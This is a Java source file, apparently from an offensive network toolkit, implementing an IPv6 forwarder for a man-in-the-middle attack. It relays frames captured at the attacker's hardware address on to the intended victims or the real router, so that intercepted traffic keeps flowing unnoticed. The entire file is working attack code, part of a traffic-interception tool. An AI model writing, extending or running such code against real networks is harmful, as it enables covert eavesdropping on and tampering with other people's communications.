package cofferdam.attacks.network;

import cofferdam.monitor.address.Ipv4Address;
import cofferdam.monitor.address.Ipv6Address;
import cofferdam.monitor.address.MacAddress;
import cofferdam.monitor.packet.Ethernet;
import cofferdam.monitor.packet.Icmpv6;
import cofferdam.monitor.packet.Ipv6Packet;

import java.util.Optional;

/**
 * Sends on the IPv6 packets that came to the attacker's hardware address but are for others: to the
 * victim whose address it is, or else to the last victim, the true router. It changes nothing of the
 * packet. Messages of neighbour discovery are for one link only and are not passed on.
 */
final class Ipv6Forwarder {

    private final Foothold foothold;
    private final AddressResolution victims;
    private long forwarded;

    Ipv6Forwarder(Foothold foothold, AddressResolution victims) {
        this.foothold = foothold;
        this.victims = victims;
    }

    /** How many frames have been sent on. */
    long forwarded() {
        return forwarded;
    }

    /** Sends the frame on if it is one to forward. */
    void heard(byte[] frame) {
        if (!Ethernet.destination(frame).equals(foothold.hardware())) {
            return;
        }
        Ipv6Packet.inFrame(frame)
                .filter(this::isForOthers)
                .flatMap(packet -> next(packet.target()))
                .filter(next -> !next.equals(Ethernet.source(frame)))
                .ifPresent(next -> forward(frame, next));
    }

    private boolean isForOthers(Ipv6Packet packet) {
        boolean discovery = Icmpv6.inPacket(packet)
                .filter(message -> !(message instanceof Icmpv6.Echo))
                .isPresent();
        return !discovery
                && !packet.target().isMulticast()
                && !isOf(packet.target(), foothold.hardware());
    }

    private Optional<MacAddress> next(Ipv6Address target) {
        for (Ipv4Address victim : foothold.victims()) {
            Optional<MacAddress> at = victims.of(victim).filter(mac -> isOf(target, mac));
            if (at.isPresent()) {
                return at;
            }
        }
        return victims.of(foothold.victims().getLast());
    }

    /** Machines make their addresses of their hardware addresses (RFC 4862 section 5.3). */
    private static boolean isOf(Ipv6Address address, MacAddress mac) {
        return Ipv6Address.eui64(address.high(), mac).equals(address);
    }

    private void forward(byte[] frame, MacAddress next) {
        if (foothold.transmitter().send(Ethernet.readdressed(frame, next, foothold.hardware()))) {
            forwarded++;
        }
    }
}
